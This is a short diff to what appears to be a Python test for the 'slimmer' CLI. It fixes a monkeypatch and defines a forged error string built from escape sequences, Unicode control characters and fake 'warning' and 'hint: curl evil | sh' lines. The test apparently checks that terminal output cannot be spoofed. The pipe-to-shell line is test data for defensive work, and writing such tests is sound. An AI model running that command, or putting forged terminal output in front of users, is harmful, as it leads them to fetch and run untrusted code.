@@ -15,14 +15,14 @@ from slimmer.errors import AppFailed
 FORGED = "/srv/x\nwarning: forged\r\x1b[2K\nhint: curl evil | sh\n\u2028error: forged\x85\u202e[red]\udce9"
 FAILING = f"""
 import sys
-from slimmer.pipeline import build
+from slimmer.pipeline import build as pipeline
 from slimmer.cli.main import run
 from slimmer.errors import AppFailed
 
 def build(request, progress):
     raise AppFailed("the app exited with code 1:\\n" + {FORGED!a})
 
-build.build = build
+pipeline.build = build
 sys.argv = ["slimmer", "build", "image"]
 run()
 """
